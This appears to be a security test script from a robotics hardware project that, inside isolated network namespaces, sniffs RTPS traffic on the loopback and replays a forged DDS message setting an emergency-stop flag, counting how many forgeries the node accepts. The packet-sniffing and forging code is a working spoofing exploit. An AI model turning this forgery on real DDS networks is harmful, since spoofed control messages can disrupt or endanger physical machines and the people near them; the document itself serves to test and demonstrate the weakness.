"""A forged message from the network against a node on the loopback, in two network namespaces of its own.

`unshare --user --map-root-user --net python -m tests.hardware.bus.two_networks` prints as JSON how many
forged messages the node heard: sent from the other namespace, and sent on this one's loopback, which shows
that the forgery works. The attacker knows what passes on the loopback, and so the GUID of an honest
publisher.
"""

from __future__ import annotations

import json
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

from hardware import messages as m
from hardware.bus.dds.bus import DdsBus
from hardware.bus.protocol import Profile

DOMAIN = 42
VICTIM = "10.9.0.1"  # address of the node's machine on the network
DATA, HAS_INLINE_QOS = 0x15, 0x02
HEADER = 20  # bytes of an RTPS header
ETH_P_ALL = 3
HONEST = """
from hardware import messages as m
from hardware.bus.dds.bus import DdsBus
from hardware.bus.protocol import Profile
bus = DdsBus("honest", domain=%d)
say = bus.publisher("estop", m.Flag, Profile.STATE)
bus.timer(0.02, lambda: say(m.Flag(False)))
bus.spin(lambda: False)
"""
FORGE = """
import socket, sys
for _ in range(3):
    address = (sys.argv[1], int(sys.argv[2]))
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(bytes.fromhex(sys.argv[3]), address)
"""


def main() -> None:
    """Measure and print."""
    sh("ip link set lo up")
    outside = subprocess.Popen(["unshare", "--net", "sleep", "120"])
    wait_for_namespace(outside.pid)
    inside = f"nsenter --net=/proc/{outside.pid}/ns/net"
    sh(f"ip link add v0 type veth peer name v1 netns {outside.pid}")
    sh(f"ip addr add {VICTIM}/24 dev v0")
    sh("ip link set v0 up")
    sh(f"{inside} ip addr add 10.9.0.2/24 dev v1")
    sh(f"{inside} ip link set v1 up")
    honest = subprocess.Popen([sys.executable, "-c", HONEST % DOMAIN])
    try:
        heard = attack(inside.split())
    finally:
        for process in (honest, outside):
            process.kill()
    print(json.dumps(heard))


def attack(inside: list[str]) -> dict[str, int]:
    """Number of forged messages that the node received, by where they were sent."""
    heard: list[bool] = []
    passed: list[tuple[int, bytes]] = []  # (port, RTPS message) of the honest publisher
    bus = DdsBus("victim", domain=DOMAIN)
    bus.subscribe("estop", m.Flag, Profile.STATE, lambda flag, _: heard.append(flag.on))
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    tap.bind(("lo", 0))
    tap.setblocking(False)
    bus.timer(0.01, lambda: passed.extend(sniffed(tap)))  # the kernel keeps few of them
    wait_until(bus, lambda: len(heard) > 50 and len(passed) > 50)
    port, packet = passed[-1]
    found = {}
    for number, (where, address, prefix) in enumerate(
        (("network", VICTIM, inside), ("loopback", "127.0.0.1", [])), start=1
    ):
        before = sum(heard)
        forged = forge(packet, 100_000 * number).hex()
        subprocess.run([*prefix, sys.executable, "-c", FORGE, address, str(port), forged], check=True)
        end_s = bus.now() + 1.0
        bus.spin(lambda end_s=end_s: bus.now() >= end_s)  # type: ignore[misc]
        found[where] = sum(heard) - before
    bus.close()
    tap.close()
    return found


def wait_until(bus: DdsBus, true: Callable[[], bool]) -> None:
    """Spin until the condition is true, at most 20 s."""
    late_s = bus.now() + 20.0
    bus.spin(lambda: true() or bus.now() > late_s)
    assert true(), "the honest publisher is not heard"


def sniffed(tap: socket.socket) -> Iterator[tuple[int, bytes]]:
    """The messages with a Flag in them that passed on the loopback."""
    with suppress(BlockingIOError):
        while True:
            frame = tap.recv(70_000)
            port, payload = struct.unpack(">H", frame[36:38])[0], frame[42:]
            if frame[23] == socket.IPPROTO_UDP and payload[:4] == b"RTPS" and user_data(payload) is not None:
                yield port, payload


def user_data(packet: bytes) -> int | None:
    """Place of the submessage with the data of an application's writer; None without one."""
    at = HEADER
    while at + 4 <= len(packet):
        kind, size = packet[at], struct.unpack("<H", packet[at + 2 : at + 4])[0]
        if kind == DATA and packet[at + 15] in (0x02, 0x03) and size == 20 + 4 + 4:  # one bool in CDR
            return at
        at += 4 + size
    return None


def forge(packet: bytes, later: int) -> bytes:
    """The message as if its publisher had sent `true`, and `later` messages later."""
    forged, at = bytearray(packet), user_data(packet)
    assert at is not None
    number = struct.unpack("<I", packet[at + 20 : at + 24])[0]
    forged[at + 20 : at + 24] = struct.pack("<I", number + later)
    forged[at + 28] = 1
    return bytes(forged[: at + 4 + struct.unpack("<H", packet[at + 2 : at + 4])[0]])


def sh(command: str) -> None:
    subprocess.run(command.split(), check=True)


def wait_for_namespace(pid: int) -> None:
    """Wait until the process has left this namespace."""
    mine = Path("/proc/self/ns/net").readlink()
    while Path(f"/proc/{pid}/ns/net").readlink() == mine:
        time.sleep(0.01)


if __name__ == "__main__":
    main()
